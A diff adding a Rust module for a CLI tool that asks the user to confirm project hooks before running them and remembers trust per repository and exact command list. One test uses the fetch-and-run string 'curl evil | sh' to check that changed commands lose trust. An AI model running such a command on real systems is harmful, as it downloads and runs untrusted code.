@@ -0,0 +1,176 @@
+use crate::config::ProjectConfig;
+use eyre::{bail, Result, WrapErr};
+use indicatif::{MultiProgress, ProgressBar};
+use inquire::{Confirm, InquireError};
+use owo_colors::OwoColorize;
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::io::{BufRead, BufReader};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+
+/// Project hooks the user agreed to run, keyed by repository
+///
+/// Trust is tied to the exact commands, so changing them asks again.
+#[derive(Debug, Default, Deserialize, Serialize)]
+pub struct TrustedHooks {
+    repos: BTreeMap<String, Vec<String>>,
+}
+
+impl TrustedHooks {
+    pub fn load() -> Result<Self> {
+        let path = trusted_hooks_path()?;
+        if !path.exists() {
+            return Ok(Self::default());
+        }
+
+        let contents = std::fs::read_to_string(&path)?;
+        serde_json::from_str(&contents)
+            .wrap_err_with(|| format!("failed to parse {}", path.display()))
+    }
+
+    pub fn save(&self) -> Result<()> {
+        let path = trusted_hooks_path()?;
+        std::fs::create_dir_all(path.parent().unwrap())?;
+        std::fs::write(path, serde_json::to_string_pretty(self)?)?;
+        Ok(())
+    }
+
+    #[must_use]
+    pub fn is_trusted(&self, repo: &str, commands: &[String]) -> bool {
+        self.repos
+            .get(repo)
+            .is_some_and(|trusted| trusted == commands)
+    }
+
+    pub fn trust(&mut self, repo: &str, commands: &[String]) {
+        self.repos.insert(repo.to_string(), commands.to_vec());
+    }
+}
+
+fn trusted_hooks_path() -> Result<PathBuf> {
+    crate::config::state_file("trusted_hooks.json")
+}
+
+/// Ask before running hooks from a repository's `.bounty.toml`, remembering a yes until they
+/// change
+///
+/// Declines without asking when there's no terminal to ask on.
+pub fn confirm_project_hooks(
+    repo: &str,
+    commands: &[String],
+    status_pb: &ProgressBar,
+) -> Result<bool> {
+    let mut trusted = TrustedHooks::load()?;
+    if trusted.is_trusted(repo, commands) {
+        return Ok(true);
+    }
+
+    let listing = commands.join("\n  ");
+    let message = format!(
+        "{repo}'s {} wants to run:\n  {listing}\nRun these commands?",
+        ProjectConfig::FILE_NAME
+    );
+    let answer = status_pb.suspend(|| Confirm::new(&message).with_default(false).prompt());
+    match answer {
+        Ok(true) => {
+            trusted.trust(repo, commands);
+            trusted.save()?;
+            Ok(true)
+        }
+        Ok(false) | Err(InquireError::NotTTY) => Ok(false),
+        Err(err) => Err(err.into()),
+    }
+}
+
+/// Run each command in `dir`, streaming its output above the progress bars
+///
+/// Keeps going after a failure, returning the commands that failed and why.
+pub fn run(commands: &[String], dir: &Path, multi: &MultiProgress) -> Vec<(String, eyre::Report)> {
+    commands
+        .iter()
+        .filter_map(|command| {
+            run_one(command, dir, multi)
+                .err()
+                .map(|err| (command.clone(), err))
+        })
+        .collect()
+}
+
+fn run_one(command: &str, dir: &Path, multi: &MultiProgress) -> Result<()> {
+    print_line(multi, &format!("$ {command}").bold().to_string())?;
+
+    let mut child = shell(command)
+        .current_dir(dir)
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .spawn()
+        .wrap_err_with(|| format!("failed to start `{command}`"))?;
+
+    let output = BufReader::new(child.stdout.take().unwrap());
+    for line in output.lines().map_while(std::result::Result::ok) {
+        print_line(multi, &format!("  {}", line.dimmed()))?;
+    }
+
+    let status = child.wait()?;
+    if !status.success() {
+        bail!("`{command}` exited with {status}");
+    }
+    Ok(())
+}
+
+/// Print above the progress bars, or straight to stderr when they aren't drawn, as indicatif
+/// then drops printed lines too
+fn print_line(multi: &MultiProgress, line: &str) -> std::io::Result<()> {
+    if multi.is_hidden() {
+        eprintln!("{line}");
+        return Ok(());
+    }
+    multi.println(line)
+}
+
+/// The command run by the platform's shell, with stderr folded into stdout
+#[cfg(unix)]
+fn shell(command: &str) -> Command {
+    let mut shell = Command::new("sh");
+    shell.arg("-c").arg(format!("exec 2>&1\n{command}"));
+    shell
+}
+
+#[cfg(not(unix))]
+fn shell(command: &str) -> Command {
+    let mut shell = Command::new("cmd");
+    shell.arg("/C").arg(format!("{command} 2>&1"));
+    shell
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use indicatif::ProgressDrawTarget;
+
+    #[test]
+    fn test_trust_is_tied_to_commands() {
+        let mut trusted = TrustedHooks::default();
+        let commands = vec!["pnpm install".to_string()];
+        assert!(!trusted.is_trusted("acme/rocket", &commands));
+
+        trusted.trust("acme/rocket", &commands);
+        assert!(trusted.is_trusted("acme/rocket", &commands));
+        assert!(!trusted.is_trusted("acme/anvil", &commands));
+        assert!(!trusted.is_trusted("acme/rocket", &["curl evil | sh".to_string()]));
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn test_run_keeps_going_after_failures() {
+        let dir = tempfile::tempdir().unwrap();
+        let multi = MultiProgress::with_draw_target(ProgressDrawTarget::hidden());
+        let commands = ["echo one >&2", "exit 3", "touch ran"].map(String::from);
+
+        let failed = run(&commands, dir.path(), &multi);
+        assert_eq!(failed.len(), 1);
+        assert_eq!(failed[0].0, "exit 3");
+        assert!(dir.path().join("ran").exists());
+    }
+}